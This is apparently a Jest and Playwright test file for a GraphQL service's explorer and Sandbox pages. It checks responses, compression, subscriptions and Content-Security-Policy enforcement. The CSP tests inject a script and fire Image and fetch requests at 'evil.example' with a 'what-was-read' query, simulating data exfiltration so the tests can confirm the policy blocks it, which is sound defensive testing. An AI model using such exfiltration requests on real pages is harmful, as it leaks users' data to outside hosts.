import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { readdirSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { registryFolder } from '../../scripts/registry/folder.ts';
import { exampleOperation } from '../../src/transports/graphql/examples.ts';
import { hasBrowser, keepScreenshot, openBrowser } from '../support/browser.ts';
import { openGraph, ownWorld, sampleGraph, type Graph } from '../support/graph.ts';
import { count, metric, stock } from '../support/live.ts';
import { put } from '../support/rows.ts';
import { until } from '../support/until.ts';

let graph: Graph;
let origin: string;

beforeAll(async () => {
  graph = await sampleGraph();
  origin = await graph.listen();
});
afterAll(() => graph.close());

test('the example operation answers without an error', async () => {
  const { data, errors } = await graph.query(exampleOperation);
  expect(errors).toBeUndefined();
  expect(data.products.nodes).toHaveLength(5);
});

test('a browser that opens the endpoint is sent Sandbox, on the example operation and our endpoint alone', async () => {
  const page = await fetch(`${origin}/graphql`, { headers: { accept: 'text/html' } });
  expect(page.status).toBe(200);
  expect(page.headers.get('content-type')).toMatch('text/html');
  const html = await page.text();
  expect(html).toContain('Content-Security-Policy');
  expect(html).toContain('embeddable-sandbox.cdn.apollographql.com');
  expect(html).toContain('BeforeWeAdvertise');
});

test('the explorer is sent compressed, and again only when it has changed', async () => {
  const first = await fetch(`${origin}/explorer`);
  expect(first.headers.get('content-encoding')).toBe('gzip');
  await first.arrayBuffer();
  const again = await fetch(`${origin}/explorer`, {
    headers: { 'if-none-match': first.headers.get('etag')! },
  });
  expect(again.status).toBe(304);
});

(hasBrowser ? describe : describe.skip)('in a browser (Debian package chromium)', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser.close());

  test('the explorer runs its example operation and shows the answer, with nothing from the internet', async () => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      const address = request.url();
      if (!address.startsWith(origin) && !/^(data|blob):/.test(address)) elsewhere.push(address);
    });
    await page.goto(`${origin}/explorer`);
    await page.getByRole('button', { name: /execute/i }).click();
    await expectText(page, '.graphiql-response', 'totalCount');
    expect(await page.locator('.graphiql-query-editor').innerText()).toContain('BeforeWeAdvertise');
    await keepScreenshot(page, 'explorer');
    await openTab(page, 'CampaignCheck');
    await expectText(page, '.graphiql-query-editor', 'CampaignCheckInput');
    await expectText(page, '.graphiql-editor-tool', 'JKT-0001');
    await page.getByRole('button', { name: /execute/i }).click();
    await expectText(page, '.graphiql-response', 'verdict');
    await keepScreenshot(page, 'explorer-registered-operation');
    expect(elsewhere).toEqual([]);
  });

  test('the tabs stand by tool, and each tool says once which it is', async () => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    await page.goto(`${origin}/explorer`);
    await page.locator('.graphiql-tab[data-tool]').first().waitFor();
    const tools = await page
      .locator('.graphiql-tab')
      .evaluateAll((tabs) => tabs.flatMap((tab) => tab.getAttribute('data-tool') ?? []));
    expect(tools).toEqual(
      readdirSync(registryFolder, { withFileTypes: true })
        .filter((entry) => entry.isDirectory())
        .map(({ name }) => name)
        .toSorted(),
    );
    await page.close();
  });

  test('the front page shows three answers on a phone, and leads to each in the explorer, where it was closed too', async () => {
    const context = await browser.newContext({ viewport: { width: 390, height: 800 } });
    const page = await context.newPage();
    const refused = refusedOn(page);
    await page.goto(origin);
    for (const shown of ['Margin %', 'Days until more', 'Change %'])
      await page.locator('article table').filter({ hasText: shown }).waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
    await keepScreenshot(page, 'front-page');
    await page.locator('article').nth(1).getByText('Open in the explorer').click();
    await tabIsOpen(page, 'ProductsAtRisk');
    await page.evaluate(`{
      const { tabs } = JSON.parse(localStorage.getItem('graphiql:tabState'));
      const others = tabs.filter(({ title }) => title !== 'TopIssues');
      localStorage.setItem('graphiql:tabState', JSON.stringify({ tabs: others, activeTabIndex: 0 }));
    }`);
    await page.goto(origin);
    await page.locator('article').nth(2).getByText('Open in the explorer').click();
    await tabIsOpen(page, 'TopIssues');
    await expectText(page, '.graphiql-query-editor', 'supportInsights');
    expect(refused).toEqual([]);
    await context.close();
  });

  test('the explorer is told of what happens, over a WebSocket of its own origin', async () => {
    const world = await ownWorld();
    await put(world, 'inventory', 'warehouses', [{ code: 'W', name: 'West' }]);
    await stock(world, 'TENT-1');
    const live = await openGraph(world.urls);
    const address = await live.listen();
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    await page.goto(`${address}/explorer`);
    await openTab(page, 'StockChanged');
    await expectText(page, '.graphiql-query-editor', 'subscription StockChanged');
    await page.getByRole('button', { name: /execute/i }).click();
    await until(async () => (await metric(address, 'opsgraph_live_subscriptions')) === 1);
    await count(world, 'TENT-1', 3);
    await expectText(page, '.graphiql-response', 'previousAvailable');
    await keepScreenshot(page, 'explorer-subscription');
    await page.close();
    await until(async () => (await metric(address, 'opsgraph_live_subscriptions')) === 0);
    await live.close();
    await world.drop();
  });

  /** What a policy keeps a page from, as its console tells it. */
  const refusedOn = (page: Page): string[] => {
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) refused.push(message.text());
    });
    return refused;
  };

  test('the policy of the explorer lets its own scripts run, and no other', async () => {
    const page = await browser.newPage();
    const refused = refusedOn(page);
    await page.goto(`${origin}/explorer`);
    await page.getByRole('button', { name: /execute/i }).click();
    await expectText(page, '.graphiql-response', 'totalCount');
    expect(refused).toEqual([]);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "run"';
      document.head.append(script);
      new Image().src = 'https://evil.example/?what-was-read';
      void fetch('https://evil.example/').catch(() => {});
    });
    await until(() => refused.length >= 3);
    expect(await page.title()).toBe('Opsgraph explorer');
    await page.close();
  });

  test('no page shows the explorers within its own', async () => {
    const page = await browser.newPage();
    const refused = refusedOn(page);
    await page.setContent(
      `<iframe src="${origin}/explorer"></iframe><iframe src="${origin}/graphql"></iframe>`,
    );
    await until(() => refused.length >= 2);
    expect(refused.every((message) => message.includes('frame-ancestors'))).toBe(true);
    await page.close();
  });

  test('the policy of Sandbox lets it load its frame and ask our endpoint, and nothing else', async () => {
    const page = await browser.newPage();
    const refused = refusedOn(page);
    // In place of Apollo's servers, which not every machine reaches: what Sandbox does with our page.
    const sandbox = `window.EmbeddedSandbox = class {
      constructor({ target, initialEndpoint }) {
        const frame = document.createElement('iframe');
        frame.src = 'https://sandbox.embed.apollographql.com/sandbox/explorer';
        document.querySelector(target).append(frame);
        fetch(initialEndpoint, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ query: '{ __typename }' }),
        }).then(async (answer) => { document.title = await answer.text(); });
      }
    }`;
    await page.route(/apollographql\.com/, (route) =>
      route.request().resourceType() === 'script'
        ? route.fulfill({ contentType: 'text/javascript', body: sandbox })
        : route.fulfill({ contentType: 'text/html', body: '<p>Sandbox</p>' }),
    );
    await page.route(/googleapis/, (route) => route.fulfill({ contentType: 'text/css', body: '' }));
    await page.goto(`${origin}/graphql`);
    await page.frameLocator('iframe').getByText('Sandbox').waitFor();
    await until(async () => (await page.title()).includes('"Query"'));
    expect(refused).toEqual([]);
    await page.evaluate(() => void fetch('https://evil.example/').catch(() => {}));
    await until(() => refused.length >= 1);
    await page.close();
  });

  test('Sandbox opens on the endpoint', async () => {
    const page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    await page.goto(`${origin}/graphql`, { waitUntil: 'domcontentloaded' });
    expect(await page.title()).toMatch(/Apollo/);
    // Its own frame comes from the internet; without it the page says so after a second.
    await page.locator('iframe, .fallback h1').first().waitFor();
    await page.waitForTimeout(2_500);
    await keepScreenshot(page, 'sandbox');
  });
});

async function expectText(page: Page, selector: string, text: string): Promise<void> {
  await page.locator(selector).filter({ hasText: text }).waitFor({ timeout: 20_000 });
}

/**
 * Clicks once, as a person does. GraphiQL reads what a tab asks a moment after it shows it, and would until then run
 * another tab's operation. It keeps which tab is open, in the browser's storage, later than both.
 */
async function openTab(page: Page, operation: string): Promise<void> {
  await page.locator('.graphiql-tab-button', { hasText: operation }).click();
  await tabIsOpen(page, operation);
}

async function tabIsOpen(page: Page, operation: string): Promise<void> {
  await page.waitForFunction((name) => {
    const { tabs, activeTabIndex } = JSON.parse(localStorage.getItem('graphiql:tabState') ?? '{"tabs":[]}');
    return tabs[activeTabIndex]?.title === name;
  }, operation);
}
